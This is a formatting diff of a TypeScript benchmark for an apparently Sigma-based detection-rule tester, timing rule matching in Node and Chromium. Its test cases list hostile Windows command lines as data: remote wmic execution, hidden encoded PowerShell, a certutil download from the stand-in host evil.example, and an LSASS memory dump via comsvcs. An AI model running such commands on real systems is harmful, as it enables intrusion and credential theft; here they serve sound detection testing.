@@ -9,7 +9,14 @@ import { build } from "esbuild"
 
 import type { Detection } from "../../lib/catalog/types.ts"
 import { buildProcessEvents, type ProcessInput } from "../../lib/tester/event.ts"
-import { compileCatalog, matchEvent, matchEventReference, type CompiledCatalog, type MatchOptions, type TesterInput } from "../../lib/tester/match.ts"
+import {
+  compileCatalog,
+  matchEvent,
+  matchEventReference,
+  type CompiledCatalog,
+  type MatchOptions,
+  type TesterInput,
+} from "../../lib/tester/match.ts"
 import { PROCESS_CREATION } from "../../lib/formats/sigma/logsource.ts"
 import { chunksFor, testerChunks } from "../../lib/tester/rules-chunks.ts"
 import { testerRules } from "../../lib/tester/rules-data.ts"
@@ -17,14 +24,49 @@ import { launchChromium } from "./chromium.ts"
 import type { BrowserCase, BrowserRow } from "./tester-entry.ts"
 
 export const TESTER_CASES: Array<[string, ProcessInput]> = [
-  ["wmic remote", { cmd: 'wmic /node:10.1.2.3 process call create "cmd.exe /c whoami"', parent: "cmd.exe", user: "CORP\\alice", host: "ws-042" }],
-  ["encoded powershell", { cmd: "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", parent: "winword.exe" }],
-  ["certutil -urlcache", { cmd: "certutil.exe -urlcache -split -f http://evil.example/payload.exe C:\\Users\\Public\\p.exe", parent: "cmd.exe" }],
-  ["rundll32 comsvcs minidump", { cmd: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", parent: "powershell.exe" }],
+  [
+    "wmic remote",
+    {
+      cmd: 'wmic /node:10.1.2.3 process call create "cmd.exe /c whoami"',
+      parent: "cmd.exe",
+      user: "CORP\\alice",
+      host: "ws-042",
+    },
+  ],
+  [
+    "encoded powershell",
+    {
+      cmd: "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+      parent: "winword.exe",
+    },
+  ],
+  [
+    "certutil -urlcache",
+    {
+      cmd: "certutil.exe -urlcache -split -f http://evil.example/payload.exe C:\\Users\\Public\\p.exe",
+      parent: "cmd.exe",
+    },
+  ],
+  [
+    "rundll32 comsvcs minidump",
+    {
+      cmd: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
+      parent: "powershell.exe",
+    },
+  ],
   ["benign notepad", { cmd: "notepad.exe a.txt", parent: "explorer.exe" }],
 ]
 
-export type TesterRow = { label: string; impl: string; nearMisses: boolean; median: number; p95: number; fired: number; near: number; undecided: number }
+export type TesterRow = {
+  label: string
+  impl: string
+  nearMisses: boolean
+  median: number
+  p95: number
+  fired: number
+  near: number
+  undecided: number
+}
 
 export function quantile(xs: number[], q: number): number {
   const s = [...xs].sort((a, b) => a - b)
@@ -42,10 +84,19 @@ function time(compiled: CompiledCatalog, fn: Fn, input: TesterInput, options: Ma
     report = fn(compiled, input, options)
     xs.push(performance.now() - t)
   }
-  return { median: quantile(xs, 0.5), p95: quantile(xs, 0.95), fired: report.counts.fired, near: report.counts.nearMisses, undecided: report.counts.undecided }
+  return {
+    median: quantile(xs, 0.5),
+    p95: quantile(xs, 0.95),
+    fired: report.counts.fired,
+    near: report.counts.nearMisses,
+    undecided: report.counts.undecided,
+  }
 }
 
-export function benchTesterNode(detections: readonly Detection[], { runs = 200, reference = false } = {}): { compileMs: number; rules: number; rows: TesterRow[] } {
+export function benchTesterNode(
+  detections: readonly Detection[],
+  { runs = 200, reference = false } = {},
+): { compileMs: number; rules: number; rows: TesterRow[] } {
   const t = performance.now()
   const compiled = compileCatalog(detections)
   const compileMs = performance.now() - t
@@ -54,12 +105,20 @@ export function benchTesterNode(detections: readonly Detection[], { runs = 200, 
   const rows: TesterRow[] = []
   for (const [label, input] of TESTER_CASES) {
     const built = { built: buildProcessEvents(input) }
-    for (const [impl, fn] of impls) for (const nearMisses of [false, true]) rows.push({ label, impl, nearMisses, ...time(compiled, fn, built, { nearMisses }, runs) })
+    for (const [impl, fn] of impls)
+      for (const nearMisses of [false, true])
+        rows.push({ label, impl, nearMisses, ...time(compiled, fn, built, { nearMisses }, runs) })
   }
   return { compileMs, rules: compiled.rules.length, rows }
 }
 
-export function testerPayloadSize(detections: readonly Detection[]): { json: string; raw: number; gz: number; cmdRaw: number; cmdGz: number } {
+export function testerPayloadSize(detections: readonly Detection[]): {
+  json: string
+  raw: number
+  gz: number
+  cmdRaw: number
+  cmdGz: number
+} {
   const rows = testerRules(detections)
   const json = JSON.stringify(rows)
   // What the worker fetches for a command line: the chunks a process_creation event needs.
@@ -74,8 +133,18 @@ export function testerPayloadSize(detections: readonly Detection[]): { json: str
   return { json, raw: Buffer.byteLength(json), gz: gzipSync(json).length, cmdRaw, cmdGz }
 }
 
-export async function benchTesterBrowser(payload: string, runs = 200): Promise<{ browser: string; compileMs: number; rows: BrowserRow[] }> {
-  const bundle = await build({ entryPoints: ["scripts/bench/tester-entry.ts"], bundle: true, write: false, format: "iife", target: "es2022", minify: true })
+export async function benchTesterBrowser(
+  payload: string,
+  runs = 200,
+): Promise<{ browser: string; compileMs: number; rows: BrowserRow[] }> {
+  const bundle = await build({
+    entryPoints: ["scripts/bench/tester-entry.ts"],
+    bundle: true,
+    write: false,
+    format: "iife",
+    target: "es2022",
+    minify: true,
+  })
   const browser = await launchChromium()
   try {
     const page = await browser.newPage()
@@ -83,7 +152,12 @@ export async function benchTesterBrowser(payload: string, runs = 200): Promise<{
     await page.addScriptTag({ content: bundle.outputFiles[0]!.text })
     const cases: BrowserCase[] = TESTER_CASES.map(([label, input]) => ({ label, input }))
     const out = await page.evaluate(
-      ([json, cs, n]) => (globalThis as unknown as { benchTester: (j: string, c: BrowserCase[], r: number) => { compileMs: number; rows: BrowserRow[] } }).benchTester(json, cs, n),
+      ([json, cs, n]) =>
+        (
+          globalThis as unknown as {
+            benchTester: (j: string, c: BrowserCase[], r: number) => { compileMs: number; rows: BrowserRow[] }
+          }
+        ).benchTester(json, cs, n),
       [payload, cases, runs] as const,
     )
     return { browser: browser.version(), ...out }
@@ -95,5 +169,6 @@ export async function benchTesterBrowser(payload: string, runs = 200): Promise<{
 /** Prints rows as an aligned text table. */
 export function printTable(rows: string[][]): void {
   const widths = rows[0]!.map((_, i) => Math.max(...rows.map((r) => (r[i] ?? "").length)))
-  for (const r of rows) console.log(r.map((c, i) => (i === 0 ? c.padEnd(widths[i]!) : c.padStart(widths[i]!))).join("  "))
+  for (const r of rows)
+    console.log(r.map((c, i) => (i === 0 ? c.padEnd(widths[i]!) : c.padStart(widths[i]!))).join("  "))
 }
